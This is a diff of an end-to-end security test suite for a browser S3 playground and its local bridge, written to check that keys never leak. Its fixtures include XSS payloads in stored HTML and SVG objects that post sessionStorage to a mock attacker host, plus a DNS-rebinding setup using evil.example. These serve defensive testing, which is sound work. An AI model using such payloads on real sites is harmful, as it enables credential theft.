@@ -4,71 +4,22 @@ import { strFromU8, unzipSync } from 'fflate';
 import { launchOptions } from '../../scripts/browser/browser.ts';
 import { told } from '../../scripts/e2e/environment.ts';
 import { unpack } from '../../src/lessons/playground/share-format.ts';
-import { type HostileS3, startHostileS3, victim } from './attacks/hostile-s3.ts';
+import { victim } from './attacks/hostile-s3.ts';
 import { lookFromTab } from './attacks/tabs.ts';
-import { type Started, startProgram } from './own-s3.ts';
+import { type Attacked, bucket, startAttacked } from './attacks/victim.ts';
 import { blockNamed, output, test } from './page.ts';
 
-const bucket = 'my-social-app-k3x9';
 const [accessKeyId, ...secrets] = Object.values(victim);
-let hostile: HostileS3;
-let bridge: Started;
-let bridgeUrl: string;
+let attacked: Attacked;
 
 test.beforeAll(async ({ baseURL }) => {
-  hostile = await startHostileS3(new URL(baseURL ?? '').origin, [bucket, 'secret']);
-  bridge = await startProgram(
-    ['src/server/bridge/main.ts', '--port', '0', '--bucket', bucket, '--endpoint', hostile.url],
-    /Code for the page: \S+\n/,
-    {
-      AWS_REGION: 'us-east-1',
-      AWS_ACCESS_KEY_ID: victim.accessKeyId,
-      AWS_SECRET_ACCESS_KEY: victim.secretAccessKey,
-      AWS_SESSION_TOKEN: victim.sessionToken,
-    },
-  );
-  bridgeUrl = /http:\/\/127\.0\.0\.1:\d+/.exec(bridge.printed())?.[0] ?? '';
+  attacked = await startAttacked(baseURL);
 });
-test.afterAll(() => {
-  bridge.child.kill();
-  hostile.close();
-});
+test.afterAll(() => attacked.stop());
 
 const expectNoKey = (text: string) => {
   for (const key of [accessKeyId, ...secrets]) expect(text).not.toContain(key);
 };
-
-async function connect(page: Page): Promise<void> {
-  await page.getByRole('button', { name: /^Connection:/ }).click();
-  const dialog = page.getByRole('dialog');
-  await dialog.getByLabel('Provider').selectOption('other');
-  await dialog.getByLabel('Endpoint').fill(hostile.url);
-  await dialog.getByLabel('Access key ID').fill(victim.accessKeyId);
-  await dialog.getByLabel('Secret access key').fill(victim.secretAccessKey);
-  await dialog.getByLabel('Session token').fill(victim.sessionToken);
-  await dialog.getByLabel('Buckets').fill(bucket);
-  await dialog.getByLabel('Keep the keys until this tab is closed').check();
-  await page.getByRole('button', { name: 'Connect', exact: true }).click();
-  await expect(page.locator('html')).toHaveAttribute('data-connection', 'direct');
-  await page.getByRole('dialog').getByRole('button', { name: 'Close', exact: true }).click();
-  await page.addLocatorHandler(page.getByRole('button', { name: 'Allow changes' }), (button) =>
-    button.click(),
-  );
-}
-
-async function pair(page: Page): Promise<void> {
-  await page.getByRole('button', { name: /^Connection:/ }).click();
-  const dialog = page.getByRole('dialog');
-  await dialog.getByText('Your own S3 with the bridge').click();
-  await dialog.getByLabel('Bridge').fill(bridgeUrl);
-  await dialog.getByLabel('Code').fill([...bridge.printed().matchAll(/page: (\S+)/g)].at(-1)?.[1] ?? '');
-  await dialog.getByRole('button', { name: 'Pair with the bridge' }).click();
-  await expect(page.locator('html')).toHaveAttribute('data-connection', 'bridge');
-  await dialog.getByRole('button', { name: 'Close', exact: true }).click();
-  await page.addLocatorHandler(page.getByRole('button', { name: 'Allow changes' }), (button) =>
-    button.click(),
-  );
-}
 
 /** Opens code by a link, and makes it the reader's own: they have read it. */
 async function takeCode(page: Page, code: string): Promise<void> {
@@ -96,13 +47,10 @@ console.log('posted', (await fetch(form.url, { method: 'POST', body: data })).st
 console.log('«' + url + '»');
 `;
 
-for (const [way, begin] of [
-  ['directly', connect],
-  ['through the bridge', pair],
-] as const) {
-  test(`what a program presigns works ${way}, for others too, and shows no secret`, async ({ page }) => {
+for (const way of ['direct', 'bridge'] as const) {
+  test(`${way}: what a program presigns works, for others too, and shows no secret`, async ({ page }) => {
     await page.goto('playground/');
-    await begin(page);
+    await attacked.connect(page, way);
     await takeCode(page, presigning);
     const block = blockNamed(page, 'Playground');
     await block.getByRole('button', { name: 'Run', exact: true }).click();
@@ -115,13 +63,13 @@ for (const [way, begin] of [
     // Whoever has the address needs no keys; by design it carries the session token, and the ID of the key.
     expect(url).toContain(encodeURIComponent(victim.sessionToken));
     expect(await (await fetch(url)).text()).toBe('shared');
-    expect(await (await hostile.asOwner('GET', `/${bucket}/posted.txt`)).text()).toBe('posted');
+    expect(await (await attacked.hostile.asOwner('GET', `/${bucket}/posted.txt`)).text()).toBe('posted');
   });
 }
 
 test('another tab learns nothing, while requests are sent', async ({ page, context }) => {
   await page.goto('lessons/first-requests/');
-  await connect(page);
+  await attacked.connect(page, 'direct');
   const other = await context.newPage();
   await other.goto('lessons/what-is-s3/');
   const looking = lookFromTab(other);
@@ -144,7 +92,7 @@ test('another tab learns nothing, while requests are sent', async ({ page, conte
 
 test('a program that still runs when the keys are forgotten gets nothing more', async ({ page }) => {
   await page.goto('playground/');
-  await connect(page);
+  await attacked.connect(page, 'direct');
   const code = `import { ListObjectsV2Command, S3Client } from '@aws-sdk/client-s3';
 const s3 = new S3Client({ region: 'us-east-1', maxAttempts: 1 });
 for (let turn = 0; turn < 200; turn += 1) {
@@ -163,7 +111,7 @@ for (let turn = 0; turn < 200; turn += 1) {
 
 test('a link and a project hold the code, and nothing of the connection', async ({ page }) => {
   await page.goto('playground/');
-  await connect(page);
+  await attacked.connect(page, 'direct');
   await page.getByRole('button', { name: 'Share' }).click();
   const link = await page.getByRole('textbox', { name: /link/i }).inputValue();
   expectNoKey(JSON.stringify(unpack(new URL(link).hash.replace('#v1=', ''))) + link);
@@ -175,22 +123,22 @@ test('a link and a project hold the code, and nothing of the connection', async 
 });
 
 test('objects that are pages and pictures do nothing when they are looked at', async ({ page }) => {
-  const script = `fetch('${hostile.elsewhere}/from-object?' + encodeURIComponent(JSON.stringify(Object.entries(top.sessionStorage))))`;
-  await hostile.asOwner(
+  const script = `fetch('${attacked.hostile.elsewhere}/from-object?' + encodeURIComponent(JSON.stringify(Object.entries(top.sessionStorage))))`;
+  await attacked.hostile.asOwner(
     'PUT',
     `/${bucket}/a-page.html`,
-    `<h1>A page</h1><script>${script}</script><img src="${hostile.elsewhere}/picture" onerror="${script.replaceAll('"', '')}"><link rel="stylesheet" href="${hostile.elsewhere}/style"><iframe src="${hostile.elsewhere}/frame"></iframe><meta http-equiv="refresh" content="0;url=${hostile.elsewhere}/refresh"><a href="javascript:${script.replaceAll('"', '')}">link</a>`,
+    `<h1>A page</h1><script>${script}</script><img src="${attacked.hostile.elsewhere}/picture" onerror="${script.replaceAll('"', '')}"><link rel="stylesheet" href="${attacked.hostile.elsewhere}/style"><iframe src="${attacked.hostile.elsewhere}/frame"></iframe><meta http-equiv="refresh" content="0;url=${attacked.hostile.elsewhere}/refresh"><a href="javascript:${script.replaceAll('"', '')}">link</a>`,
     { 'content-type': 'text/html' },
   );
-  await hostile.asOwner(
+  await attacked.hostile.asOwner(
     'PUT',
     `/${bucket}/b-picture.svg`,
-    `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90" onload="${script.replaceAll('"', '').replaceAll('&', '&amp;')}"><script>${script.replaceAll('&', '&amp;')}</script><image href="${hostile.elsewhere}/svg-image"/><rect width="90" height="90" fill="green"/></svg>`,
+    `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90" onload="${script.replaceAll('"', '').replaceAll('&', '&amp;')}"><script>${script.replaceAll('&', '&amp;')}</script><image href="${attacked.hostile.elsewhere}/svg-image"/><rect width="90" height="90" fill="green"/></svg>`,
     { 'content-type': 'image/svg+xml' },
   );
-  const before = hostile.caught.length;
+  const before = attacked.hostile.caught.length;
   await page.goto('lessons/first-requests/');
-  await connect(page);
+  await attacked.connect(page, 'direct');
   const workbench = page.getByRole('complementary', { name: 'Workbench' });
   await workbench.getByRole('tab', { name: 'Buckets' }).click();
   await workbench.getByText('a-page.html').first().click();
@@ -204,7 +152,7 @@ test('objects that are pages and pictures do nothing when they are looked at', a
   await workbench.getByText('b-picture.svg').first().click();
   await expect(workbench.getByRole('img', { name: /b-picture/ })).toBeVisible();
   await page.waitForTimeout(500);
-  expect(hostile.caught.slice(before)).toEqual([]);
+  expect(attacked.hostile.caught.slice(before)).toEqual([]);
 });
 
 test('a page under a name that points to this machine gets nothing from the bridge', async ({
@@ -217,7 +165,7 @@ test('a page under a name that points to this machine gets nothing from the brid
     args: [...(options?.args ?? []), '--host-resolver-rules=MAP evil.example 127.0.0.1'],
   });
   const page = await own.newPage();
-  const { port } = new URL(bridgeUrl);
+  const { port } = new URL(attacked.bridge.url);
   const answers: string[] = [];
   // The bridge itself answers the name: to the browser page and bridge are of one origin.
   const opened = await page.goto(`http://evil.example:${port}/`);
@@ -247,8 +195,8 @@ test('a sandboxed frame, a form and a page in a frame get nothing from the bridg
   // A page of its own: the browser complains there, and is right.
   const page = await browser.newPage();
   // On this machine, or the browser would not let it as far as the bridge.
-  await page.goto(hostile.elsewhere);
-  const before = bridge.printed().length;
+  await page.goto(attacked.hostile.elsewhere);
+  const before = attacked.bridge.printed().length;
   const heard = await page.evaluate(async (url) => {
     const results: string[] = [];
     addEventListener('message', ({ data }) => results.push(String(data)));
@@ -267,10 +215,10 @@ test('a sandboxed frame, a form and a page in a frame get nothing from the bridg
     picture.src = `${url}/s3`;
     await new Promise((resolve) => setTimeout(resolve, 2_000));
     return results;
-  }, bridgeUrl);
+  }, attacked.bridge.url);
   expect(heard).toHaveLength(1);
   for (const one of (heard[0] ?? '').split(' | ')) expect(one).toMatch(/^(none|0 opaque|403 )/);
-  const refused = bridge.printed().slice(before);
+  const refused = attacked.bridge.printed().slice(before);
   expect(refused).toContain('must name its origin');
   expect(refused).not.toContain('AKIA');
   await page.close();
